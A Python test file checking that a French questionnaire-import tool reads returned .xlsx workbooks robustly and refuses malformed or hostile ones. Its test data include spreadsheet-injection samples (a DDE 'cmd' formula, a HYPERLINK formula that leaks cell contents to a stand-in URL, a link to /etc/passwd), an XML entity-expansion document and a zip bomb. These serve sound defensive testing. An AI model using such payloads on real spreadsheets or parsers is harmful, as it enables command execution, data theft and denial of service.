"""A questionnaire that comes back: read whatever a spreadsheet did to it, refused when nobody can tell what it says."""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import re
import tempfile
import zipfile
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from inventes.atelier_fictif import build_referentiel, noeud, plain, question, read_reponses
from inventes.outils_depot import read_cells
from inventes.questionnaire_fictif import (
    CONSTAT,
    JOUR,
    build_essai,
    edit,
    fill,
    find_column,
    find_row,
    said,
    save,
)
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.formula import ArrayFormula

from numresp.depot.echanges.questionnaire.lecture import Retour, holds_answers, read_questionnaire
from numresp.erreurs import DonneesInvalides, Introuvable

ESSAI = build_essai()
Geste = Callable[[Workbook], None]


@pytest.fixture
def chemin(tmp_path: Path) -> Path:
    """The technician's questionnaire as it was sent, nothing filled in."""
    return save(tmp_path / "retour.xlsx", ESSAI)


def refuse(chemin: Path, **autres: Any) -> list[tuple[str, str, str]]:
    """(place, message, remedy) of the faults of a file that must be refused."""
    with pytest.raises(DonneesInvalides) as saisie:
        read_questionnaire(chemin, ESSAI, **autres)
    assert all(faute.fichier.endswith(chemin.name) for faute in saisie.value.fautes)
    return said(saisie.value)


def remarks(retour: Retour) -> list[str]:
    """What must be said, with ordinary spaces."""
    return [plain(remarque) for remarque in retour.remarques]


# -- what people and spreadsheets send back ----------------------------------------------------------------------------


def test_round_trip(chemin: Path) -> None:
    """Answers, proofs and remarks come back as they were typed; what was left empty is no answer."""
    fill(chemin, {"un.a": 2, "un.b": "Ne sait pas"})
    fill(chemin, {"un.a": "Délibération du 3 mars"}, "Preuve")
    fill(chemin, {"un.b": "À demander"}, "Remarque")
    retour = read_questionnaire(chemin, ESSAI)
    assert retour.reponses == read_reponses({"un.a": 2, "un.b": "ne_sait_pas"})
    assert retour.preuves == {"un.a": "Délibération du 3 mars"}
    assert retour.commentaires == {"un.b": "À demander"}
    assert (retour.role, retour.date, retour.organisation) == ("technicien", JOUR, "Valmont")
    assert retour.empreinte == ESSAI.empreinte
    assert retour.identifiant == hashlib.sha256(chemin.read_bytes()).hexdigest()[:8]
    assert retour.remarques == ()


def test_nothing_filled_in(chemin: Path) -> None:
    """A questionnaire sent back as it came says nothing, and is no fault."""
    assert read_questionnaire(chemin, ESSAI).reponses == {}


@pytest.mark.parametrize(
    ("ecrit", "lu"),
    [
        (2, 2),
        (2.0, 2),
        ("2", 2),
        (" 2 ", 2),
        ("2,0", 2),
        ("2.0", 2),
        (0, 0),
        ("Non concerné", "non_concerne"),
        ("non concerne", "non_concerne"),
        ("NON CONCERNÉ", "non_concerne"),
        ("non\N{NO-BREAK SPACE}concerné ", "non_concerne"),
        ("ne sait pas", "ne_sait_pas"),
        ("Ne sait pas.", "ne_sait_pas"),
    ],
)
def test_ways_to_write_an_answer(chemin: Path, ecrit: object, lu: object) -> None:
    """A level may be a number or a text; words count without capitals and accents. 0 is an answer."""
    assert read_questionnaire(fill(chemin, {"un.a": ecrit}), ESSAI).reponses == read_reponses({"un.a": lu})


@pytest.mark.parametrize(("valeur", "motif"), [(1, "0%"), (0.02, "0%"), (2, '0" %"'), (2, "0,"), (1, '0" k€"')])
def test_a_level_that_shows_something_else(chemin: Path, valeur: float, motif: str) -> None:
    """A cell that shows 100 % is not level 1: what the person saw is no answer, and is said as it was seen."""

    def change(classeur: Workbook) -> None:
        feuille = classeur["Questionnaire"]
        case = feuille.cell(find_row(feuille, "un.a"), find_column(feuille, "Votre réponse"))
        case.value, case.number_format = valeur, motif

    ((_, message, _),) = refuse(edit(chemin, change))
    assert message.startswith("réponse attendue")


@pytest.mark.parametrize("blanc", ["", "   ", "\N{NO-BREAK SPACE}", "\n"])
def test_blanks_are_no_answer(chemin: Path, blanc: str) -> None:
    """A cell where only blanks were typed is an empty cell."""
    assert read_questionnaire(fill(chemin, {"un.a": blanc}), ESSAI).reponses == {}


def reverse_rows(classeur: Workbook) -> None:
    """Sort the questions the other way round."""
    feuille = classeur["Questionnaire"]
    lignes = [[c.value for c in ligne] for ligne in feuille.iter_rows(min_row=2)]
    for rang, valeurs in enumerate(reversed(lignes), start=2):
        for colonne, valeur in enumerate(valeurs, start=1):
            feuille.cell(rang, colonne).value = valeur


def spread_rows(classeur: Workbook) -> None:
    """Empty rows between the questions, a title above, and a note far below."""
    feuille = classeur["Questionnaire"]
    for rang in (4, 3, 1):
        feuille.insert_rows(rang, 2)
    feuille["B1"].value = "Service informatique"
    feuille["B4000"].value = "Rempli en salle de réunion"


def move_columns(classeur: Workbook) -> None:
    """The answer comes first, after a column of one's own; the ids are at the end."""
    feuille = classeur["Questionnaire"]
    lignes = [[c.value for c in ligne] for ligne in feuille.iter_rows()]
    feuille.delete_rows(1, 10)
    for rang, (ident, *milieu, reponse, preuve, remarque) in enumerate(lignes, start=1):
        for colonne, valeur in enumerate(["à moi", reponse, remarque, *milieu, preuve, None, ident], start=1):
            feuille.cell(rang, colonne).value = valeur


def rename_sheet(classeur: Workbook) -> None:
    """A sheet of another name, beside a sheet of one's own."""
    classeur["Questionnaire"].title = "Réponses 2025"
    classeur.create_sheet("Brouillon")["A1"].value = "Question"


@pytest.mark.parametrize("geste", [reverse_rows, spread_rows, move_columns, rename_sheet], ids=lambda g: g.__name__)
def test_what_is_moved_is_found(chemin: Path, geste: Geste) -> None:
    """Rows, columns and the sheet itself may be moved, inserted or renamed: the id and the headings tell."""
    fill(fill(chemin, {"un.a": 1, "un.b": 2, "un.c": 3}), {"un.c": "Contrat"}, "Preuve")
    retour = read_questionnaire(edit(chemin, geste), ESSAI)
    assert retour.reponses == read_reponses({"un.a": 1, "un.b": 2, "un.c": 3})
    assert retour.preuves == {"un.c": "Contrat"}


def test_texts_are_kept(chemin: Path) -> None:
    """Several lines, an accent, markup, a date or a number as a proof: kept as a person reads them."""
    fill(chemin, {"un.a": 1, "un.b": 1, "un.c": 1})
    preuves = {"un.a": "Note 1\r\nNote 2_x000D_\n<b>é</b>", "un.b": dt.datetime(2024, 3, 9), "un.c": 12.5}
    retour = read_questionnaire(fill(chemin, preuves, "Preuve"), ESSAI)
    assert retour.preuves == {"un.a": "Note 1\nNote 2\n<b>é</b>", "un.b": "09/03/2024", "un.c": "12,5"}


@settings(max_examples=15)
@given(
    reponses=st.fixed_dictionaries(
        {},
        optional=dict.fromkeys(
            ("un.a", "un.c"), st.sampled_from([0, 1, 2, 3, 3.0, "2", "Non concerné", "NE SAIT PAS"])
        ),
    ),
    texte=st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Cn")), max_size=40),
    ordre=st.permutations(range(3)),
)
def test_any_answers_in_any_order(reponses: dict[str, Any], texte: str, ordre: list[int]) -> None:
    """Whatever was answered, with whatever proof, in whatever order the rows are: that is what is read."""

    def type_in(classeur: Workbook) -> None:
        feuille = classeur["Questionnaire"]
        for ident, reponse in reponses.items():
            ligne = find_row(feuille, ident)
            feuille.cell(ligne, find_column(feuille, "Votre réponse")).value = reponse
            preuve = feuille.cell(ligne, find_column(feuille, "Preuve"))
            preuve.value = texte
            preuve.data_type = "s"
        lignes = [[(c.value, c.data_type) for c in ligne] for ligne in feuille.iter_rows(min_row=2)]
        for rang, place in enumerate(ordre, start=2):
            for colonne, (valeur, genre) in enumerate(lignes[place], start=1):
                feuille.cell(rang, colonne).value = valeur
                feuille.cell(rang, colonne).data_type = genre

    attendu = {"Non concerné": "non_concerne", "NE SAIT PAS": "ne_sait_pas", 3.0: 3, "2": 2}
    with tempfile.TemporaryDirectory() as dossier:
        retour = read_questionnaire(edit(save(Path(dossier, "q.xlsx"), ESSAI), type_in), ESSAI)
    assert retour.reponses == read_reponses({cle: attendu.get(vu, vu) for cle, vu in reponses.items()})
    dite = texte.replace("_x000D_", "").strip()
    assert retour.preuves == (dict.fromkeys(reponses, dite) if dite else {})


def test_as_excel_writes_texts(chemin: Path) -> None:
    """Excel keeps all texts in one part and cells point into it; numbers carry a style. It is read the same."""
    fill(fill(chemin, {"un.a": 2, "un.b": "Non concerné"}), {"un.a": "Contrat <1> & 2"}, "Preuve")
    with zipfile.ZipFile(chemin) as archive:
        parties = {nom: archive.read(nom).decode() for nom in archive.namelist()}
    textes: list[str] = []

    def share(cellule: re.Match[str]) -> str:
        textes.append(cellule[1])
        return f't="s"><v>{len(textes) - 1}</v>'

    for nom, xml in list(parties.items()):
        if "worksheets/sheet" in nom:
            parties[nom] = re.sub(r't="inlineStr"><is><t[^>]*>(.*?)</t></is>', share, xml, flags=re.DOTALL)
            assert "inlineStr" not in parties[nom]
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    riches = "".join(f"<si><r><t>{texte}</t></r></si>" for texte in textes)
    parties["xl/sharedStrings.xml"] = f'<sst xmlns="{ns}">{riches}</sst>'
    genre = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    types = parties["[Content_Types].xml"]
    if "sharedStrings" not in types:
        part = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{genre}"/></Types>'
        parties["[Content_Types].xml"] = types.replace("</Types>", part)
    chemin.write_bytes(zip_of(**{nom: texte.encode() for nom, texte in parties.items()}))
    retour = read_questionnaire(chemin, ESSAI)
    assert retour.reponses == read_reponses({"un.a": 2, "un.b": "non_concerne"})
    assert retour.preuves == {"un.a": "Contrat <1> & 2"}


def test_libreoffice_saves_it_again(chemin: Path, resauver: Callable[..., list[Path]]) -> None:
    """LibreOffice opens the questionnaire, saves it again, and it is still read; its hidden parts are still hidden."""
    fill(fill(chemin, {"un.a": 2, "un.b": "Non concerné"}), {"un.a": "Contrat"}, "Preuve")
    (resauve,) = resauver(chemin)
    retour = read_questionnaire(resauve, ESSAI)
    assert retour.reponses == read_reponses({"un.a": 2, "un.b": "non_concerne"})
    assert retour.preuves == {"un.a": "Contrat"}
    assert read_cells(resauve) == read_cells(chemin)
    classeur = load_workbook(resauve)
    assert classeur["numresp"].sheet_state == "hidden"
    assert classeur["Questionnaire"].column_dimensions["A"].hidden
    assert classeur["Questionnaire"].data_validations.dataValidation


# -- ids lost, questions no longer asked -------------------------------------------------------------------------------


def test_without_ids_the_exact_wording_tells(chemin: Path) -> None:
    """Ids that were deleted are made good by the wording of each question, never by its rank."""

    def drop_ids(classeur: Workbook) -> None:
        classeur["Questionnaire"].delete_cols(1)

    fill(chemin, {"un.b": 1})
    assert read_questionnaire(edit(chemin, drop_ids), ESSAI).reponses == read_reponses({"un.b": 1})


def test_without_id_nor_wording(chemin: Path) -> None:
    """An answer that nothing names is refused; a row of one's own without an answer is let alone."""

    def blur(classeur: Workbook) -> None:
        feuille = classeur["Questionnaire"]
        feuille.delete_cols(1)
        feuille["C2"].value = "Autre formulation"
        feuille["C3"].value = "Encore une autre"

    fill(chemin, {"un.a": 1})
    ((lieu, message, remede),) = refuse(edit(chemin, blur))
    assert (lieu, message) == ("Questionnaire!I2", "réponse sans question : ni identifiant masqué, ni intitulé connu")
    assert remede


def test_two_questions_of_the_same_wording_are_not_guessed(tmp_path: Path) -> None:
    """Without ids, a wording that two questions share names neither."""
    jumeaux = [{**question(ident, **CONSTAT), "intitule": "La même ?"} for ident in ("un.a", "un.b")]
    referentiel = build_referentiel(noeud("un", *jumeaux))
    chemin = fill(save(tmp_path / "q.xlsx", referentiel), {"un.a": 1})
    assert read_questionnaire(chemin, referentiel).reponses == read_reponses({"un.a": 1})
    with pytest.raises(DonneesInvalides, match="réponse sans question"):
        read_questionnaire(edit(chemin, lambda classeur: classeur["Questionnaire"].delete_cols(1)), referentiel)


def test_rows_sorted_without_their_ids(chemin: Path) -> None:
    """A sort of the visible columns alone parts the rows from their ids: the wording shows it, and nothing is read."""

    def mix(classeur: Workbook) -> None:
        feuille = classeur["Questionnaire"]
        feuille["A2"].value, feuille["A3"].value = feuille["A3"].value, feuille["A2"].value

    fautes = refuse(edit(fill(chemin, {"un.a": 1}), mix))
    assert [lieu for lieu, _, _ in fautes] == ["Questionnaire!D2", "Questionnaire!D3"]
    assert all("les lignes ont été mêlées" in message for _, message, _ in fautes)


def test_question_no_longer_asked_is_said(chemin: Path) -> None:
    """An answer outside the séance's variante is left out and said; an unanswered one is not worth a word."""
    fill(chemin, {"un.a": 1, "un.b": 2})
    retour = read_questionnaire(chemin, ESSAI, posees={"un.a", "deux.x"})
    assert retour.reponses == read_reponses({"un.a": 1})
    message = "la question « un.b » n’est plus posée ici : réponse laissée de côté"
    assert remarks(retour) == [f"Questionnaire!J3 : {message}"]


def test_referentiel_changed_since(tmp_path: Path) -> None:
    """Same version, other content: answers are read, the change is said, and a question that has gone is left out."""
    ancien = build_referentiel(noeud("un", question("un.a", **CONSTAT), question("un.z", **CONSTAT)))
    chemin = fill(save(tmp_path / "q.xlsx", ancien), {"un.a": 1, "un.z": 2})
    retour = read_questionnaire(chemin, ESSAI)
    assert retour.reponses == read_reponses({"un.a": 1})
    assert remarks(retour) == [
        "le référentiel a été modifié depuis l’envoi : relisez les réponses avec leurs auteurs",
        "Questionnaire!J3 : la question « un.z » n’est plus posée : réponse laissée de côté",
    ]


def test_proof_without_answer_is_said(chemin: Path) -> None:
    """A proof proves an answer; alone, it is left out, and said so that it is not lost unseen."""
    retour = read_questionnaire(fill(chemin, {"un.c": "Contrat"}, "Preuve"), ESSAI)
    assert (retour.reponses, retour.preuves) == ({}, {})
    assert remarks(retour) == [
        "Questionnaire!J4 : pas de réponse à « un.c » : sa preuve et sa remarque sont laissées de côté"
    ]


def test_an_opinion_is_an_answer_only(tmp_path: Path) -> None:
    """What somebody writes beside an anonymous opinion, in columns of his own, is not read."""

    def sign(classeur: Workbook) -> None:
        feuille = classeur["Questionnaire"]
        for rang, texte in enumerate(("Remarque", "Jean Martin"), start=1):
            feuille.cell(rang, 11).value = texte

    chemin = edit(fill(save(tmp_path / "q.xlsx", ESSAI, "debats"), {"deux.x": 3}), sign)
    retour = read_questionnaire(chemin, ESSAI)
    assert (retour.role, retour.reponses) == ("debats", read_reponses({"deux.x": 3}))
    assert (retour.preuves, retour.commentaires, retour.remarques) == ({}, {}, ())


# -- faults in cells, all at once --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "vu", [4, -1, 2.5, "3 ou 2", "2 - En voie", "oui", True, "niveau 2", "²", "٢", dt.date(2025, 2, 1)]
)
def test_answers_that_are_none(chemin: Path, vu: object) -> None:
    """Anything but a level of the question or the two other choices is refused, at its cell, with the choices."""
    ((lieu, message, remede),) = refuse(fill(chemin, {"un.a": vu}))
    assert lieu == "Questionnaire!J2"
    assert message.startswith("réponse attendue (0, 1, 2, 3, Non concerné, Ne sait pas), vu « ")
    assert remede == "choisissez dans la liste de la case"


def test_a_question_has_its_own_levels(chemin: Path) -> None:
    """3 is no answer to a question of three levels, 0 to 2."""
    ((lieu, message, _),) = refuse(fill(chemin, {"un.b": 3}))
    assert lieu == "Questionnaire!J3"
    assert message == "réponse attendue (0, 1, 2, Non concerné, Ne sait pas), vu « 3 »"


@pytest.mark.parametrize(
    "formule", ["=1+1", '=HYPERLINK("http://x/?"&A2)', "='[autre.xlsx]F'!A1", "=cmd|' /C calc'!A0"]
)
@pytest.mark.parametrize("colonne", ["Votre réponse", "Preuve", "Remarque"])
def test_formulas_are_refused(chemin: Path, formule: str, colonne: str) -> None:
    """A formula is never computed: in an answer, a proof or a remark it is refused, shown as it was typed."""
    fill(chemin, {"un.a": 1})
    ((lieu, message, remede),) = refuse(fill(chemin, {"un.a": formule}, colonne))
    assert lieu == f"Questionnaire!{ {'Votre réponse': 'J', 'Preuve': 'K', 'Remarque': 'L'}[colonne] }2"
    assert message == f"valeur attendue, vu la formule « {formule} »"
    assert remede == "tapez la valeur elle-même"


def test_array_formula(chemin: Path) -> None:
    """A formula over several cells is a formula."""
    ((_, message, _),) = refuse(fill(chemin, {"un.a": ArrayFormula("J2:J3", "=A1:A2")}))
    assert message == "valeur attendue, vu la formule « =A1:A2 »"


def test_a_text_that_looks_like_a_formula_is_a_text(chemin: Path) -> None:
    """A proof typed after an apostrophe, « '=1+1 », is the text « =1+1 »."""

    def type_in(classeur: Workbook) -> None:
        cellule = classeur["Questionnaire"]["K2"]
        cellule.value = "=1+1"
        cellule.data_type = "s"

    assert read_questionnaire(edit(fill(chemin, {"un.a": 1}), type_in), ESSAI).preuves == {"un.a": "=1+1"}


@pytest.mark.parametrize("plage", ["J2:J3", "J2:K2", "A3:L3", "B2:XFD900000"])
def test_merged_cells(chemin: Path, plage: str) -> None:
    """One cell over two rows answers neither for sure; a huge range is refused as fast as a small one."""

    def merge(classeur: Workbook) -> None:
        # Cells are not put in place one by one, so that the test can write a huge range.
        classeur["Questionnaire"].merged_cells.add(plage)

    lus = [faute for faute in refuse(edit(chemin, merge)) if faute[1] == "cellules fusionnées"]
    assert [lieu for lieu, _, _ in lus] == [f"Questionnaire!{plage}"]


def test_merged_cells_elsewhere(chemin: Path) -> None:
    """Merged cells that are not read (a title above, the help) hide nothing."""

    def merge(classeur: Workbook) -> None:
        classeur["Questionnaire"].insert_rows(1)
        classeur["Questionnaire"].merge_cells("A1:L1")
        classeur["Questionnaire"].merge_cells("E3:I3")

    assert read_questionnaire(edit(fill(chemin, {"un.a": 1}), merge), ESSAI).reponses == read_reponses({"un.a": 1})


def test_faults_are_said_all_at_once(chemin: Path) -> None:
    """An unknown question, one that stands twice, an answer out of range and a formula: each at its cell, in one go."""

    def spoil(classeur: Workbook) -> None:
        feuille = classeur["Questionnaire"]
        for colonne, valeur in ((1, "un.d"), (10, 1)):
            feuille.cell(6, colonne).value = valeur
        for colonne, valeur in ((1, "un.a"), (10, 1)):
            feuille.cell(9, colonne).value = valeur

    fill(chemin, {"un.a": 9, "un.c": "=1+1"})
    assert refuse(edit(chemin, spoil)) == [
        (
            "Questionnaire!J2",
            "réponse attendue (0, 1, 2, 3, Non concerné, Ne sait pas), vu « 9 »",
            "choisissez dans la liste de la case",
        ),
        ("Questionnaire!J4", "valeur attendue, vu la formule « =1+1 »", "tapez la valeur elle-même"),
        ("Questionnaire!A6", "la question « un.d » n’existe pas", "vouliez-vous dire « un.c »"),
        (
            "Questionnaire!J9",
            "la question « un.a » figure deux fois (déjà en Questionnaire!J2)",
            "gardez une seule ligne par question",
        ),
    ]


# -- not such a workbook -----------------------------------------------------------------------------------------------


def test_another_referentiel_or_version(tmp_path: Path) -> None:
    """The questions of another référentiel or version are not the same: nothing is read."""
    for autre in ({"version": "2"}, {"referentiel": "autre"}):
        chemin = save(tmp_path / "q.xlsx", ESSAI, **autre)
        ((lieu, message, _),) = refuse(chemin)
        assert lieu == "numresp"
        assert message.startswith("questionnaire du référentiel « essai-1 » attendu, vu « ")


@pytest.mark.parametrize(
    ("cellule", "valeur", "attendu"),
    [
        ("B1", "questionnaire-9", "format « questionnaire-1 » attendu, vu « questionnaire-9 »"),
        ("B6", "maire", "rôle inconnu « maire »"),
        ("B7", "6 mai", "date de séance attendue, vu « 6 mai »"),
        ("B7", None, "« date » manque"),
    ],
)
def test_hidden_sheet_changed(chemin: Path, cellule: str, valeur: str | None, attendu: str) -> None:
    """What the workbook says of itself is checked."""

    def spoil(classeur: Workbook) -> None:
        classeur["numresp"][cellule].value = valeur

    ((lieu, message, remede),) = refuse(edit(chemin, spoil))
    assert (lieu, message) == ("numresp", attendu)
    assert remede


def test_hidden_sheet_gone(chemin: Path) -> None:
    """A sheet copied into another workbook has lost what it is: nothing is guessed."""
    ((_, message, remede),) = refuse(edit(chemin, lambda classeur: classeur.remove(classeur["numresp"])))
    assert message.startswith("ce classeur n’est pas un questionnaire de numresp")
    assert "sans recopier ses feuilles" in remede


def test_no_sheet_or_two(chemin: Path) -> None:
    """Exactly one sheet has the headings; with a copy beside it, nobody can tell which one holds the answers."""

    def copy(classeur: Workbook) -> None:
        classeur.copy_worksheet(classeur["Questionnaire"])

    ((_, message, _),) = refuse(edit(chemin, copy))
    assert message.startswith(
        "une seule feuille de questionnaire attendue, vu « Questionnaire », « Questionnaire Copy »"
    )
    for nom in ("Questionnaire", "Questionnaire Copy"):
        edit(chemin, lambda classeur, nom=nom: classeur.remove(classeur[nom]))  # type: ignore[misc]
    ((_, message, _),) = refuse(chemin)
    assert message == "aucune feuille n’a les en-têtes « Question » et « Votre réponse »"


def test_heading_twice(chemin: Path) -> None:
    """Two columns of answers: nobody can tell which one counts."""

    def double(classeur: Workbook) -> None:
        classeur["Questionnaire"]["N1"].value = "votre réponse"

    ((lieu, message, _),) = refuse(edit(chemin, double))
    assert (lieu, message) == ("Questionnaire!N1", "la colonne « Votre réponse » figure deux fois")


def zip_of(**parties: bytes) -> bytes:
    """A small archive."""
    tampon = io.BytesIO()
    with zipfile.ZipFile(tampon, "w", zipfile.ZIP_DEFLATED) as archive:
        for nom, contenu in parties.items():
            archive.writestr(nom, contenu)
    return tampon.getvalue()


OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)
ODS = zip_of(mimetype=b"application/vnd.oasis.opendocument.spreadsheet")


@pytest.mark.parametrize(
    ("octets", "attendu"),
    [
        pytest.param(OLE, "ancien format Excel (.xls)", id="xls"),
        pytest.param(OLE + "EncryptedPackage".encode("utf-16-le"), "ce classeur est chiffré", id="mot de passe"),
        pytest.param(ODS, "classeur OpenDocument (.ods)", id="ods"),
        pytest.param(b"Identifiant;Question;Votre r\xe9ponse\r\n", "ce n’est pas un classeur .xlsx", id="csv"),
        pytest.param(b"", "ce n’est pas un classeur .xlsx", id="vide"),
        pytest.param(b"%PDF-1.7", "ce n’est pas un classeur .xlsx", id="pdf"),
        pytest.param(zip_of(a=b"b"), "ce n’est pas un classeur .xlsx", id="zip"),
        pytest.param(b"PK\x03\x04abc", "classeur endommagé", id="zip coupé"),
    ],
)
def test_not_an_xlsx(tmp_path: Path, octets: bytes, attendu: str) -> None:
    """What is no .xlsx is named, with what to do to have one."""
    chemin = tmp_path / "retour.xlsx"
    chemin.write_bytes(octets)
    ((_, message, remede),) = refuse(chemin)
    assert message.startswith(attendu)
    assert "enregistre" in remede


def test_no_file(tmp_path: Path) -> None:
    """A file that is not there, or is a folder, is said."""
    with pytest.raises(Introuvable, match="ce fichier n’existe pas"):
        read_questionnaire(tmp_path / "absent.xlsx", ESSAI)
    assert refuse(tmp_path)[0][1].startswith("lecture impossible")


@cache
def filled() -> bytes:
    """A questionnaire with one answer; the same bytes each time."""
    with tempfile.TemporaryDirectory() as dossier:
        return fill(save(Path(dossier, "q.xlsx"), ESSAI), {"un.a": 1}).read_bytes()


@settings(max_examples=40)
@given(
    coupe=st.none() | st.floats(0, 1, exclude_max=True),
    touches=st.lists(st.tuples(st.floats(0, 1, exclude_max=True), st.integers(0, 255)), max_size=5),
)
def test_damaged_anyhow(coupe: float | None, touches: list[tuple[float, int]]) -> None:
    """Bytes cut off or changed anywhere: it is refused in French, or read as if nothing were, never a crash."""
    octets = bytearray(filled())
    for place, octet in touches:
        octets[int(place * len(octets))] = octet
    if coupe is not None:
        del octets[int(coupe * len(octets)) :]
    with tempfile.TemporaryDirectory() as dossier:
        chemin = Path(dossier, "q.xlsx")
        chemin.write_bytes(octets)
        try:
            lues = read_questionnaire(chemin, ESSAI).reponses
        except DonneesInvalides:
            return
        assert lues == read_reponses({"un.a": 1})


@pytest.mark.parametrize(
    "partie", ["xl/workbook.xml", "xl/worksheets/sheet2.xml", "xl/styles.xml", "[Content_Types].xml"]
)
@pytest.mark.parametrize("contenu", [b"", b"<a", b"<a/>", b"\xff\xfe"])
def test_damaged_part(chemin: Path, partie: str, contenu: bytes) -> None:
    """A part that is empty, cut or something else is refused in French; styles that say nothing change nothing."""
    replace_part(chemin, partie, contenu)
    if (partie, contenu) == ("xl/styles.xml", b"<a/>"):
        assert read_questionnaire(chemin, ESSAI).reponses == {}
    else:
        assert refuse(chemin)


def replace_part(chemin: Path, partie: str, contenu: bytes) -> None:
    """Put other bytes into one part of a workbook."""
    with zipfile.ZipFile(chemin) as archive:
        parties = {nom: archive.read(nom) for nom in archive.namelist()}
    chemin.write_bytes(zip_of(**(parties | {partie: contenu})))


def test_entities_are_refused(chemin: Path) -> None:
    """An .xlsx declares no entity: one that does is up to something, in whatever encoding."""
    xml = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "cc"><!ENTITY d "&b;&b;">]><a>&d;</a>'
    for contenu in (xml.encode(), xml.replace("?>", ' encoding="utf-16"?>', 1).encode("utf-16")):
        replace_part(chemin, "xl/worksheets/sheet2.xml", contenu)
        assert refuse(chemin)[0][1].startswith("classeur endommagé")


def test_bomb(chemin: Path) -> None:
    """A small file that unpacks into hundreds of megabytes is refused before it is unpacked."""
    replace_part(chemin, "xl/media/image.bmp", bytes(100_000_000))
    assert chemin.stat().st_size < 500_000
    ((_, message, remede),) = refuse(chemin)
    assert message == "ce classeur contient plus de 60 Mo une fois déployé"
    assert remede


def test_a_hundred_thousand_rows(chemin: Path) -> None:
    """A sheet that goes on and on is no questionnaire, and is refused in one line."""
    lignes = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(2, 100_002))
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    xml = f'<worksheet xmlns="{ns}"><sheetData>{lignes}</sheetData></worksheet>'
    replace_part(chemin, "xl/worksheets/sheet2.xml", xml.encode())
    ((lieu, message, _),) = refuse(chemin)
    assert (lieu, message) == ("Questionnaire", "plus de 2000 lignes : ce n’est pas un questionnaire")


def test_a_million_empty_rows(chemin: Path) -> None:
    """Rows that only have a height, down to the last one, are no rows; beyond the last one, the file is refused."""
    with zipfile.ZipFile(fill(chemin, {"un.a": 1})) as archive:
        xml = archive.read("xl/worksheets/sheet2.xml")
    replace_part(chemin, "xl/worksheets/sheet2.xml", xml.replace(b"</sheetData>", b'<row r="1048576"/></sheetData>'))
    assert read_questionnaire(chemin, ESSAI).reponses == read_reponses({"un.a": 1})
    replace_part(
        chemin, "xl/worksheets/sheet2.xml", xml.replace(b"</sheetData>", b'<row r="99999999999"/></sheetData>')
    )
    assert refuse(chemin)


def test_too_heavy(tmp_path: Path) -> None:
    """No more than 20 MB are read from the disk."""
    chemin = tmp_path / "lourd.xlsx"
    chemin.write_bytes(b"PK" + bytes(20_000_000))
    assert refuse(chemin)[0][1] == "ce fichier dépasse 20 Mo"


def test_links_to_other_files_are_left_alone(chemin: Path) -> None:
    """A link to another file, in a cell that is not read, is neither followed nor a fault."""

    def link(classeur: Workbook) -> None:
        feuille = classeur["Questionnaire"]
        feuille["N2"].value = "='file:///etc/[passwd]F'!A1"
        feuille["E2"].hyperlink = "http://192.0.2.1/x"

    assert read_questionnaire(edit(fill(chemin, {"un.a": 1}), link), ESSAI).reponses == read_reponses({"un.a": 1})


def test_holds_answers(chemin: Path, tmp_path: Path) -> None:
    """A questionnaire as it was sent holds none; with an answer or a proof it does; what cannot be read may."""
    assert not holds_answers(chemin)
    assert holds_answers(fill(chemin, {"un.a": "Contrat"}, "Preuve"))
    assert holds_answers(fill(save(tmp_path / "autre.xlsx", ESSAI), {"un.b": 0}))
    (tmp_path / "illisible.xlsx").write_bytes(b"PK")
    assert holds_answers(tmp_path / "illisible.xlsx")
